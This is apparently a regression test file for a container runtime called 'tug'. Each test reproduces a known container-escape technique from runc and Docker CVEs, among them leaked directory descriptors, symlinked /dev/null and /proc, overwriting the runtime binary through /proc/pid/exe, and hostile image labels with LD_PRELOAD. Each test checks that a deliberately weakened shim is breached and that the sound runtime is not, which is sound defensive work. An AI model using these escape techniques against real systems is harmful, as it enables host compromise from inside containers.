// Ways out of a container that once worked with others, tried for real; each succeeds where the defence is taken away.
import { afterAll, afterEach, beforeAll, expect, test } from 'bun:test';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  chmodSync,
  closeSync,
  constants,
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  rmdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { closeFd, sealedProgram } from '../../src/host/index.ts';
import { run as runProgram, until } from '../support/command.ts';
import { type Engine, startEngine } from '../support/engine.ts';
import { type Bench, builtShim, makeBench } from '../support/runtime.ts';
import { type Weakening, weakShim } from '../support/weak-shim.ts';

const clean: (() => unknown)[] = [];
afterEach(async () => {
  for (const step of clean.splice(0).toReversed()) await step();
});

/** A runtime whose shim lacks some defences. */
function weakened(...weakenings: Weakening[]): Bench {
  const shim = weakShim(...weakenings);
  const bench = makeBench('exec', { shim: { path: shim.path } });
  clean.push(shim.remove, () => bench.remove());
  return bench;
}

function sound(): Bench {
  const bench = makeBench();
  clean.push(() => bench.remove());
  return bench;
}

type Outcome = { code: number; out: string; err: string };
const outcome = (work: Promise<Outcome>): Promise<Outcome> =>
  work.catch((error: Error) => ({ code: -1, out: '', err: error.message }));

// CVE-2024-21626: a working directory that is a descriptor of the runtime's leads to the host.
test('a working directory by a descriptor that leads to the host', async () => {
  const attack = async (bench: Bench): Promise<string> => {
    const seen: string[] = [];
    for (let fd = 3; fd <= 12; fd++) {
      const change = (spec: Parameters<NonNullable<Parameters<Bench['launch']>[1]>['change'] & object>[0]) => {
        spec.process.cwd = `/proc/self/fd/${fd}`;
      };
      seen.push((await outcome(bench.run(['sh', '-c', 'ls; cat launch.json'], { change }))).out);
    }
    return seen.join('\n');
  };
  expect(await attack(sound())).toBe('\n'.repeat(9));
  const weak = weakened(
    ['child.c', "if (at[0] != '/') fail(&current, ENOENT, path);", ''],
    ['child.c', 'must(syscall(SYS_getcwd, at, sizeof at) > 0, path);', ''],
    ['mounts.c', 'int fd = make_target(target, DIRECTORY, mode);\n  must(fd >= 0, target);', 'int fd = -1;'],
  );
  expect(await attack(weak)).toContain('"token"');
}, 180_000);

// The same class: a descriptor that the program itself inherits.
test('a descriptor that a program inherits', async () => {
  const look = ['sh', '-c', 'ls /proc/self/fd; cat /proc/self/fd/6/launch.json'];
  const honest = await outcome(sound().run(look));
  expect(honest.out.trim().split('\n')).toEqual(['0', '1', '2', '3']); // 3 is ls's own
  const weak = weakened(
    [
      'child.c',
      'must(!close_range(3, ~0u, CLOSE_RANGE_CLOEXEC), "close_range");',
      'close_range(3, ~0u, 0), fcntl(6, F_GETFD);',
    ],
    [
      'child.c',
      'void final_phase(struct reader rest) {',
      'void final_phase(struct reader rest) {\n  fcntl(FD_DIRECTORY, F_SETFD, 0);',
    ],
    ['child.c', 'close_range(3, ~0u, 0), fcntl(6, F_GETFD);', ''],
  );
  expect((await outcome(weak.run(look))).out).toContain('"token"');
}, 180_000);

// CVE-2025-31133: what masks is taken from the container, which puts something else there.
test('a /dev/null that is another file where the runtime masks with it', async () => {
  const attack = (bench: Bench) => {
    const dev = mkdtempSync(join(tmpdir(), 'tug-dev-'));
    clean.push(() => rmSync(dev, { recursive: true }));
    symlinkSync('/proc/sys/kernel/core_pattern', join(dev, 'null'));
    return outcome(
      bench.run(['cat', '/proc/keys'], {
        change: (spec) => {
          spec.mounts = spec.mounts.filter(({ destination }) => !destination.startsWith('/dev'));
          spec.mounts.push({ destination: '/dev', type: 'bind', source: dev, options: ['rbind'] });
        },
      }),
    );
  };
  const { code, err } = await attack(sound());
  expect([code, err]).toEqual([-1, expect.stringContaining('/dev/null')]);
  const weak = weakened([
    'mounts.c',
    'if (!S_ISCHR(info.st_mode) || info.st_rdev != makedev(1, 3)) fail(&current, EINVAL, "/dev/null");',
    '',
  ]);
  expect((await attack(weak)).out).toBe(readFileSync('/proc/sys/kernel/core_pattern', 'utf8'));
}, 180_000);

// CVE-2025-52565: the terminal is put over a file of the kernel's.
test('a /dev/console that leads into /proc', async () => {
  const attack = async (bench: Bench) => {
    const dev = mkdtempSync(join(tmpdir(), 'tug-dev-'));
    clean.push(() => rmSync(dev, { recursive: true }));
    mkdirSync(join(dev, 'pts'));
    writeFileSync(join(dev, 'null'), '');
    symlinkSync('/proc/version', join(dev, 'console'));
    let failure = '';
    const pending = await bench.launch(['sleep', '1000'], {
      stdio: { tty: true, openStdin: false, stdinOnce: false },
      change: (spec) => {
        spec.mounts = spec.mounts.filter(({ destination }) => !/^\/dev$|mqueue|shm/.test(destination));
        spec.mounts.unshift({ destination: '/dev', type: 'bind', source: dev, options: ['rbind'] });
        spec.linux.maskedPaths = [];
        spec.linux.readonlyPaths = [];
      },
    });
    try {
      await pending.go();
    } catch (error) {
      failure = (error as Error).message;
      return failure;
    }
    const mounts = readFileSync(`/proc/${pending.process.pid}/mountinfo`, 'utf8');
    await pending.process.signal(9);
    await pending.process.exited;
    await pending.process.release();
    return mounts;
  };
  const refused = await attack(sound());
  expect(refused).not.toContain(' /proc/version ');
  expect(refused).toContain('/dev/console');
  const weak = weakened(['mounts.c', 'refuse_procfs(at, target);', '']);
  expect(await attack(weak)).toContain(' /proc/version ');
}, 180_000);

// CVE-2025-52881 and before: /proc of the image is a link, so that what is written to it goes elsewhere.
test('a /proc that is a link of the image', async () => {
  const attack = (bench: Bench) => {
    rmdirSync(join(bench.box.directory, 'proc'));
    mkdirSync(join(bench.box.directory, 'tmp/elsewhere'), { recursive: true });
    symlinkSync('tmp/elsewhere', join(bench.box.directory, 'proc'));
    return outcome(bench.run(['cat', '/tmp/elsewhere/self/comm']));
  };
  const { code, err } = await attack(sound());
  expect([code, err]).toEqual([-1, expect.stringContaining('/proc')]);
  const weak = weakened(['mounts.c', 'INSIDE | (kernel ? RESOLVE_NO_SYMLINKS : 0)', 'INSIDE']);
  expect((await attack(weak)).out).toBe('cat\n');
}, 180_000);

// CVE-2017-1002101 and every mount target since: a link of the image's at the place of a mount.
test('a mount whose place is a link to the host', async () => {
  const attack = async (bench: Bench) => {
    const outside = mkdtempSync(join(tmpdir(), 'tug-outside-'));
    const volume = mkdtempSync(join(tmpdir(), 'tug-volume-'));
    clean.push(
      () => rmSync(outside, { recursive: true, force: true }),
      () => rmSync(volume, { recursive: true }),
    );
    writeFileSync(join(outside, 'secret'), 'of the host');
    symlinkSync(outside, join(bench.box.directory, 'data'));
    await outcome(
      bench.run(['true'], {
        change: (spec) => {
          spec.mounts.push({ destination: '/data/new', type: 'bind', source: volume, options: ['rbind'] });
        },
      }),
    );
    return readdirSync(outside).toSorted();
  };
  expect(await attack(sound())).toEqual(['secret']);
  const weak = weakened([
    'mounts.c',
    'return open_in(root, path, O_PATH, INSIDE);',
    'while (*path == 47) path++;\n  return open_in(root, *path ? path : ".", O_PATH, 0);',
  ]);
  expect(await attack(weak)).toEqual(['new', 'secret']);
}, 180_000);

// CVE-2019-5736: the program that enters a container is opened there, and overwritten once it has gone.
test('the program that enters a container is overwritten', async () => {
  const directory = mkdtempSync(join(tmpdir(), 'tug-program-'));
  clean.push(() => rmSync(directory, { recursive: true }));
  const attack = async (program: string) => {
    const victim = spawn(program, ['sleep', '1'], { argv0: 'docker-init', stdio: 'ignore' });
    await once(victim, 'spawn');
    const held = openSync(`/proc/${victim.pid}/exe`, 'r');
    victim.kill('SIGKILL');
    await once(victim, 'exit');
    const overwrite = () => {
      try {
        const fd = openSync(`/proc/self/fd/${held}`, constants.O_WRONLY);
        writeSync(fd, '#!/bin/sh\necho taken over\n');
        closeSync(fd);
        return 'overwritten';
      } catch (error) {
        return (error as NodeJS.ErrnoException).code;
      }
    };
    try {
      // Its child may be killed before it has become another program: the attack waits for that.
      return await until('nobody runs it', () => {
        const outcome = overwrite();
        return outcome === 'ETXTBSY' ? undefined : outcome;
      });
    } finally {
      closeSync(held);
    }
  };
  const bytes = readFileSync(builtShim());
  const fd = sealedProgram('tug-shim', bytes, directory);
  expect(await attack(`/proc/${process.pid}/fd/${fd}`)).toBe('EPERM');
  expect(readFileSync(`/proc/self/fd/${fd}`).equals(bytes)).toBe(true);
  closeFd(fd);
  const plain = join(directory, 'tug-shim');
  copyFileSync(builtShim(), plain);
  expect(await attack(plain)).toBe('overwritten');
});

let engine: Engine;
beforeAll(async () => {
  engine = await startEngine();
  await engine.withBusybox();
});
afterAll(async () => {
  expect(await engine.dispose()).toEqual([]);
}, 180_000);

// CVE-2021-41091: a user of the host runs setuid programs of containers where they lie on the disk.
test('a setuid program of a container, run by a user of the host', async () => {
  await engine.tug(['create', '--name', 'suid', 'busybox', 'chmod', '4755', '/id']);
  await engine.tug(['cp', '-L', '/usr/bin/id', 'suid:/id']);
  await engine.tug(['start', '-a', 'suid']);
  const { stdout } = await engine.tug(['inspect', '-f', '{{.GraphDriver.Data.UpperDir}}', 'suid']);
  const program = join(stdout.trim(), 'id');
  const attack = () =>
    runProgram([program, '-u'], { uid: 65_534, gid: 65_534 }).catch((error: Error) => ({
      code: -1,
      stdout: error.message,
    }));
  chmodSync(engine.directory, 0o755);
  expect((await attack()).stdout).toContain('EACCES');
  // As the directories once were.
  const opened = ['data', 'data/overlay2', 'data/overlay2/containers'].map((path) => join(engine.directory, path));
  const modes = opened.map((path) => Number.parseInt(String(Bun.spawnSync(['stat', '-c', '%a', path]).stdout), 8));
  for (const path of opened) chmodSync(path, 0o755);
  expect((await attack()).stdout).toBe('0\n');
  for (const [index, path] of opened.entries()) chmodSync(path, modes[index] ?? 0o700);
  await engine.tug(['rm', 'suid']);
});

// CVE-2020-15257: abstract sockets belong to the network namespace, and a container may have the host's.
test('abstract sockets of the engine in the host’s network', async () => {
  await engine.tug(['run', '-d', '--name', 'other', 'busybox', 'sleep', '1000']);
  const attack = async () => {
    const { stdout } = await engine.tug(['run', '--rm', '--net=host', 'busybox', 'cat', '/proc/net/unix']);
    return stdout
      .split('\n')
      .map((line) => line.split(' ').at(-1) ?? '')
      .filter((name) => /^@.*(tug|shim)/.test(name));
  };
  expect(await attack()).toEqual([]);
  const weak = createServer();
  await new Promise<void>((resolve) => weak.listen('\0tug-shim-of-a-container', resolve as () => void));
  expect(await attack()).toEqual(['@tug-shim-of-a-container']);
  await new Promise((resolve) => weak.close(resolve));
  await engine.tug(['rm', '-f', 'other']);
});

// CVE-2018-15664, CVE-2019-14271: a copy follows a link of the container's, or runs what lies in it.
test('a copy out of a container through its links', async () => {
  const secret = join(engine.directory, 'secret');
  writeFileSync(secret, 'of the host');
  const script = `mkdir -p /d; ln -s ${secret} /d/file; ln -s ${engine.directory} /up`;
  await engine.tug(['run', '--name', 'links', 'busybox', 'sh', '-c', script]);
  const read = async (path: string) => {
    const response = await fetch(`http://tug/containers/links/archive?path=${path}`, { unix: engine.socket });
    return Buffer.from(await response.arrayBuffer()).toString('latin1');
  };
  expect(await read('/d')).not.toContain('of the host');
  expect(await read('/up/secret')).toContain('Could not find the file');
  // One that follows names on the host.
  const { stdout } = await engine.tug(['inspect', '-f', '{{.GraphDriver.Data.UpperDir}}', 'links']);
  expect(readFileSync(join(stdout.trim(), 'd/file'), 'utf8')).toBe('of the host');
  await engine.tug(['rm', 'links']);
});

// CVE-2026-53488: what an image says of itself steers the engine.
test('labels, variables and a health check that read like an engine’s own words', async () => {
  const hostile = {
    'run.oci.hooks.stdin': '{"prestart":[{"path":"/bin/sh"}]}',
    'io.kubernetes.cri-o.Devices': '/dev/sda',
    'com.docker.security.privileged': 'true',
  };
  const labels = Object.entries(hostile).flatMap(([name, value]) => ['--change', `LABEL ${name}='${value}'`]);
  await engine.tug(['create', '--name', 'base', 'busybox']);
  await engine.tug(['commit', ...labels, '--change', 'ENV LD_PRELOAD=/evil.so', 'base', 'hostile:1']);
  await engine.tug(['create', '--name', 'hostile', 'hostile:1', 'sleep', '1000']);
  expect((await engine.tug(['start', 'hostile'])).code).toBe(0);
  const { stdout: id } = await engine.tug(['inspect', '-f', '{{.Id}}', 'hostile']);
  const specOf = (one: string) =>
    readFileSync(join(engine.directory, 'data/containers', one.trim(), 'spec.json'), 'utf8');
  const spec = JSON.parse(specOf(id)) as { annotations?: object; hooks?: object; linux: { devices: object[] } };
  expect([spec.annotations, spec.hooks, spec.linux.devices]).toEqual([undefined, undefined, []]);
  // The user's own word is passed on.
  await engine.tug([
    'run',
    '-d',
    '--name',
    'asked',
    '--annotation',
    'run.oci.hooks.stdin=x',
    'busybox',
    'sleep',
    '1000',
  ]);
  const { stdout: asked } = await engine.tug(['inspect', '-f', '{{.Id}}', 'asked']);
  expect(JSON.parse(specOf(asked)).annotations).toEqual({ 'run.oci.hooks.stdin': 'x' });
  await engine.tug(['rm', '-f', 'hostile', 'base', 'asked']);
  await engine.tug(['rmi', 'hostile:1']);
});
